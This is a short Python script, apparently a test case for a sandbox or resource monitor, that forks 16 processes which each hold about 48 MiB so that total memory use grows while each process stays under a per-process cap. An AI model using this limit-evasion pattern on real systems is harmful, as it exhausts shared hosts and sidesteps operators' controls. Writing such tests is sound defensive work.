"""Takes a share of memory in each of many processes, every one below the limit of a process."""
import os
import time

from agent import serve


def attack():
    for _ in range(16):
        if os.fork() == 0:
            kept = bytearray(os.urandom(1 << 12)) * ((48 << 20) >> 12)
            time.sleep(1000)
            os._exit(len(kept) & 1)
    time.sleep(20)
    return True


serve(attack)
